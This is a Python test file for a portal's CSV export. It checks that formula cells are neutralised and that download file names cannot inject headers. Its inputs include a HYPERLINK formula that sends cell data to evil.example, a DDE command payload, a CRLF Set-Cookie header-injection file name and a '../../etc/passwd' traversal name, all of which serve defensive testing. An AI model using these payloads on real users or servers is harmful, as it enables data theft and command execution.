"""CSV exports: formula cells are neutralised, the download headers cannot be hijacked."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest

from msp_portal.core.csv import csv_response, csv_safe, download_disposition

HOSTILE_CELLS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+41 22 000 00 00",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("cell", HOSTILE_CELLS)
def test_a_cell_a_spreadsheet_would_evaluate_is_prefixed_with_a_quote(cell):
    assert csv_safe(cell) == "'" + cell


@pytest.mark.parametrize(
    "value, expected",
    [
        ("Printer offline", "Printer offline"),
        ("T-1042", "T-1042"),
        ("a=b", "a=b"),
        ("", ""),
        (None, ""),
        (42, "42"),
        (-5, "-5"),  # a number column stays a number
        (Decimal("-1.50"), "-1.50"),
        (2.5, "2.5"),
        (True, "true"),
        (dt.date(2026, 11, 23), "2026-11-23"),
    ],
)
def test_ordinary_values_are_written_unchanged(value, expected):
    assert csv_safe(value) == expected


def test_non_string_objects_are_checked_as_their_text():
    class Named:
        def __str__(self) -> str:
            return "=EVIL()"

    assert csv_safe(Named()) == "'=EVIL()"


def read_csv(response) -> list[list[str]]:
    text = b"".join(response.streaming_content).decode("utf-8")
    assert text.startswith("\ufeff")  # the BOM Excel needs to read UTF-8
    return list(csv.reader(io.StringIO(text[1:])))


def test_the_response_streams_every_cell_neutralised():
    rows = ((f"=cell{i}", i, "Société Générale") for i in range(3))

    response = csv_response("tickets.csv", ["=header", "n", "client"], rows)

    assert response.streaming
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["X-Content-Type-Options"] == "nosniff"
    assert read_csv(response) == [
        ["'=header", "n", "client"],
        ["'=cell0", "0", "Société Générale"],
        ["'=cell1", "1", "Société Générale"],
        ["'=cell2", "2", "Société Générale"],
    ]


def test_cells_with_separators_quotes_and_newlines_stay_one_cell():
    response = csv_response("x.csv", ["a"], [['He said "hi",\nthen left; =1']])

    assert read_csv(response) == [["a"], ['He said "hi",\nthen left; =1']]


def test_the_file_name_is_a_download_and_cannot_inject_a_header():
    response = csv_response('report"\r\nSet-Cookie: a=b', ["a"], [])

    disposition = response["Content-Disposition"]
    assert disposition.startswith("attachment; ")
    assert "\r" not in disposition and "\n" not in disposition
    assert disposition.count('"') == 2
    assert "filename*=UTF-8''report%22Set-Cookie%3A%20a%3Db.csv" in disposition
    assert "Set-Cookie" not in response.headers


@pytest.mark.parametrize(
    "name, ascii_part, utf8_part",
    [
        ("tickets.csv", 'filename="tickets.csv"', "filename*=UTF-8''tickets.csv"),
        ("été 報告.csv", 'filename="ete.csv"', "filename*=UTF-8''%C3%A9t%C3%A9%20%E5%A0%B1"),
        ("../../etc/passwd", 'filename="etc_passwd"', "filename*=UTF-8''_.._etc_passwd"),
        ("", 'filename="download"', "filename*=UTF-8''download"),
    ],
)
def test_download_names_are_encoded_both_ways(name, ascii_part, utf8_part):
    disposition = download_disposition(name)

    assert disposition.startswith("attachment; ")
    assert ascii_part in disposition
    assert utf8_part in disposition
